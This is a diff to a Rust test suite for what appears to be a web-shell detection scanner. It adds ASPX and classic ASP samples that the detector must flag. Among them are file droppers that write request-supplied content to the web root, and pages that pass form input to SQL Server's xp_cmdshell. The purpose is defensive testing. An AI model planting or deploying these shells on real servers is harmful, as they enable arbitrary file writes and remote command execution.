@@ -1764,6 +1764,9 @@ fn stop_30_second_read() {
         "<%@ Page Language=\"C#\" %>\n<% string n = Request.Form[\"n\"];\nSystem.IO.File.WriteAllText(AppDomain.CurrentDomain.BaseDirectory + n, Request.Form[\"c\"]); %>\n",
         "<%@ Page Language=\"C#\" %>\n<% string n = Request.Form[\"n\"];\nif (Request.Files.Count > 0) Request.Files[0].SaveAs(Server.MapPath(\"/\") + n); %>\n",
         "<%@ Page Language=\"C#\" %>\n<% string n = Request.Form[\"n\"], c = Request.Form[\"c\"];\nSystem.IO.File.WriteAllText(System.Web.Hosting.HostingEnvironment.MapPath(\"~/\") + n, c); %>\n",
+        "<%@ Page Language=\"C#\" %>\n<% string n = Request.Form[\"n\"];\nSystem.IO.File.WriteAllText(string.Concat(Server.MapPath(\"~/\"), n), Request.Form[\"c\"]); %>\n",
+        "<%@ Page Language=\"C#\" %>\n<% string n = Request.Form[\"n\"];\nSystem.IO.File.WriteAllText(String.Format(\"{0}\\\\{1}\", Request.PhysicalApplicationPath, n), Request.Form[\"c\"]); %>\n",
+        "<%@ Page Language=\"C#\" %>\n<% string n = Request.Form[\"n\"], root = Server.MapPath(\"/\");\nSystem.IO.File.WriteAllText($\"{root}{n}\", Request.Form[\"c\"]); %>\n",
     ] {
         has(page, "EXRAY_File_Dropper_Flow");
     }
@@ -1789,6 +1792,22 @@ fn stop_30_second_read() {
     // xp_cmdshell as a stored procedure with its command bound; sp_configure names the option
     has(
         "<%@ Page Language=\"C#\" %>\n<% using (var cn = new SqlConnection(\"server=.;integrated security=true\")) { cn.Open();\nvar cmd = new SqlCommand(\"master..xp_cmdshell\", cn);\ncmd.CommandType = CommandType.StoredProcedure;\ncmd.Parameters.AddWithValue(\"@command_string\", Request.Form[\"q\"]);\ncmd.ExecuteReader(); } %>\n",
+        "EXRAY_SQL_Shell_Request_Flow",
+    );
+    // the command's parameter bound through an object, an initializer, its index, or by
+    // position in ADO
+    for bind in [
+        "var p = new SqlParameter(\"@c\", SqlDbType.NVarChar, 4000);\np.Value = Request.Form[\"q\"];\ncmd.Parameters.Add(p);",
+        "cmd.Parameters.Add(new SqlParameter { ParameterName = \"@c\", Value = Request.Form[\"q\"] });",
+        "cmd.Parameters.Add(\"@c\", SqlDbType.NVarChar);\ncmd.Parameters[0].Value = Request.Form[\"q\"];",
+    ] {
+        has(
+            &format!("<%@ Page Language=\"C#\" %>\n<% using (var cn = new SqlConnection(\"server=.;integrated security=true\")) {{ cn.Open();\nvar cmd = new SqlCommand(\"exec master..xp_cmdshell @c\", cn);\n{bind}\ncmd.ExecuteReader(); }} %>\n"),
+            "EXRAY_SQL_Shell_Request_Flow",
+        );
+    }
+    has(
+        "<%\nSet cmd = Server.CreateObject(\"ADODB.Command\")\ncmd.ActiveConnection = \"Provider=SQLOLEDB;Data Source=.;Integrated Security=SSPI\"\ncmd.CommandText = \"exec master..xp_cmdshell ?\"\ncmd.Parameters.Append cmd.CreateParameter(\"c\", 200, 1, 8000, Request.Form(\"q\"))\nSet rs = cmd.Execute\n%>\n",
         "EXRAY_SQL_Shell_Request_Flow",
     );
     let toggle = "<%@ Page Language=\"C#\" %>\n<% using (var cn = new SqlConnection(\"server=.;integrated security=true\")) { cn.Open();\nvar cmd = new SqlCommand(\"EXEC sp_configure 'xp_cmdshell', @v; RECONFIGURE\", cn);\ncmd.Parameters.AddWithValue(\"@v\", Request.Form[\"on\"] == \"1\" ? 1 : 0);\ncmd.ExecuteNonQuery(); } %>\n";
